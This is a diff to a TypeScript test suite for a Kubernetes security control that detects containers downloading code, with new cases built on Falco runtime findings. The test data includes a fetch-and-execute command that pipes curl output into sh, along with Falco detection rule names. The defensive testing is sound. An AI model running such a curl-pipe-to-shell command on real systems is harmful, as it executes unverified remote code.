@@ -1,5 +1,9 @@
 import { expect } from 'chai';
 import control from '../../src/controls/RD-5.H.3.2.ts';
+import type { RuntimeFinding } from '../../src/domain/runtime.ts';
+import type { Snapshot } from '../../src/domain/snapshot.ts';
+import { read, unread } from '../../src/domain/snapshot.ts';
+import { now, runtimeFinding } from '../support/builders.ts';
 import type { ControlCase, Manifest } from '../support/control-cases.ts';
 import { commonCases, describeControl, podOf, templateOf } from '../support/control-cases.ts';
 
@@ -7,6 +11,15 @@ const starting = (...command: string[]): Manifest => ({ spec: { containers: [{ n
 const withInit = (init: object): Manifest => ({
   spec: { containers: [{ name: 'app' }], initContainers: [{ name: 'init', ...init }] },
 });
+
+const withRuntime = (runtime: Snapshot['runtime'], manifest: Manifest) => {
+  const input = templateOf(manifest);
+  return { ...input, snapshot: { ...input.snapshot, runtime } };
+};
+const seen = (events: RuntimeFinding[], manifest = starting('node', 'server.js')) =>
+  withRuntime(read(events), manifest);
+const withoutFalco = (manifest: Manifest) =>
+  withRuntime(unread('NoEvidence', 'No Falco events were given.'), manifest);
 
 const downloads = [
   'sh -c curl https://a.example/x | sh',
@@ -70,6 +83,55 @@ const cases: Record<string, ControlCase> = {
   },
   'takes the patterns of the profile': {
     given: templateOf(starting('fetch', 'x'), { parameters: { 'workloads.downloadCommands': ['^fetch '] } }),
+    status: 'Fail',
+  },
+  'fails what Falco has seen in the window, whatever the commands say': {
+    given: seen([runtimeFinding({ rule: 'Drop and execute new binary in container' })]),
+    status: 'Fail',
+    message: 'Falco saw code or packages brought into a container (1 rule).',
+    findings: [
+      {
+        subject: runtimeFinding().subject,
+        example: runtimeFinding().example ?? '',
+        message: `Falco saw it, last at ${runtimeFinding().lastSeen.replace(/\.\d+/, '')}.`,
+        ref: 'Drop and execute new binary in container',
+      },
+    ],
+  },
+  'says both, where a command downloads too': {
+    given: seen(
+      [runtimeFinding({ rule: 'Launch Package Management Process in Container' })],
+      starting('npm', 'ci'),
+    ),
+    status: 'Fail',
+    message:
+      'Falco saw code or packages brought into a container (1 rule). 1 of 1 workload downloads code or packages.',
+  },
+  'passes what other rules have seen': {
+    given: seen([runtimeFinding({ rule: 'Terminal shell in container' })]),
+    status: 'Pass',
+  },
+  'passes what was seen before the window': {
+    given: seen([
+      runtimeFinding({
+        rule: 'Drop and execute new binary in container',
+        lastSeen: new Date(now - 25 * 3_600_000).toISOString(),
+      }),
+    ]),
+    status: 'Pass',
+  },
+  'does not pass where no event can be read': {
+    given: withoutFalco(starting('node', 'server.js')),
+    status: 'Unknown',
+    reason: 'NoEvidence',
+  },
+  'does not warn there either': {
+    given: withoutFalco(withInit({ command: ['git', 'fetch'] })),
+    status: 'Unknown',
+    reason: 'NoEvidence',
+  },
+  'fails a command there all the same': {
+    given: withoutFalco(starting('npm', 'ci')),
     status: 'Fail',
   },
 };
